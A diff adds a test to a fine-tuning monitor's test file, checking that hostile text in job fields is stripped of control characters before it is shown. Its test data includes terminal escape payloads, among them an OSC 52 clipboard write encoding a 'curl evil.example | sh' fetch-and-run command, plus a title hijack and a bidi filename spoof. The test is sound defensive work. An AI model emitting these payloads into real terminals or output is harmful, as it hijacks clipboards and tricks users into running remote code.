@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
@@ -228,6 +229,58 @@ def test_a_job_fills_the_form_again() -> None:
         "type": "string_check",
         "name": "g",
     }
+
+
+#: What a hostile job can hold in its text fields: clipboard (OSC 52), title (OSC 2), screen wipe,
+#: an 8-bit CSI, a bidi override and a zero-width joiner.
+HOSTILE = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x1b\\",
+    "\x1b]2;pwned\x07",
+    "\x1b[2J",
+    "\x9b31m",
+    "\u202egnp.exe\u202c",
+    "a\u200db\nc",
+)
+
+
+def test_a_hostile_job_fills_the_form_with_inert_text_only() -> None:
+    """``N`` copies the source job's fields into inputs, which draw them on the terminal: every
+    control and format character must be gone first (OSC 52 would write the clipboard)."""
+    import unicodedata
+
+    from ftmon.api.models import FineTuningJob
+    from ftmon.datasets.request import CreateInput, input_from_job
+
+    bad = "".join(HOSTILE)
+    job = FineTuningJob.model_validate(
+        {
+            "id": "ftjob-1",
+            "model": "gpt-4.1-mini" + bad,
+            "training_file": "file-t" + bad,
+            "validation_file": bad,
+            "user_provided_suffix": "s" + bad,
+            "metadata": {"k" + bad: "v" + bad},
+            "method": {
+                "type": "reinforcement",
+                "reinforcement": {"grader": {"type": "string_check", "name": bad}},
+            },
+            "integrations": [
+                {
+                    "type": "wandb",
+                    "wandb": {"project": bad, "name": bad, "entity": bad, "tags": [bad]},
+                }
+            ],
+        }
+    )
+    inp = input_from_job(job)
+    for name in CreateInput.field_names():
+        value = getattr(inp, name)
+        shown = [c for c in value if unicodedata.category(c) in ("Cc", "Cf") and c != "\n"]
+        assert shown == [], (name, value)
+        if name != "grader":
+            assert "\n" not in value, name
+    assert inp.training_file.startswith("file-t]52;c;")  # the text stays, inert
+    assert json.loads(inp.grader)["name"] == bad  # JSON keeps the value, escaped
 
 
 def test_a_grader_type_newer_than_ftmon_is_left_to_the_api() -> None:
